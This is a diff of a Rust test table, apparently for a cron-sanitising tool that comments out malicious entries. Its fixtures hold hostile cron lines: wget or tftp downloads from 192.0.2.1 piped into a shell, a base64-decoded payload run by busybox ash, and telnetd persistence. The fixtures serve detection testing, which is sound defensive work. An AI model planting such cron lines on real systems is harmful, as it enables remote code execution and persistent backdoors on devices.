@@ -138,7 +138,12 @@ const CASES: &[Case] = &[
         &[(2, Fetch, "wget"), (3, Telnet, "telnetd")],
         "# telnetd\n# komainu: */5 * * * * wget -qO- http://192.0.2.1/x | sh\n# komainu: @reboot telnetd\n0 3 * * * killall telnetd; reboot\n",
     ),
-    (Cron, "* * * * * echo Zg== | base64 -d | busybox ash", &[(1, Fetch, "base64")], "# komainu: * * * * * echo Zg== | base64 -d | busybox ash"),
+    (
+        Cron,
+        "* * * * * echo Zg== | base64 -d | busybox ash",
+        &[(1, Fetch, "base64")],
+        "# komainu: * * * * * echo Zg== | base64 -d | busybox ash",
+    ),
     (
         CronOfUsers,
         "PATH=/bin\n@daily root busybox tftp -g -r x 192.0.2.1 && sh /tmp/x\n* * * * * root telnetd\n",
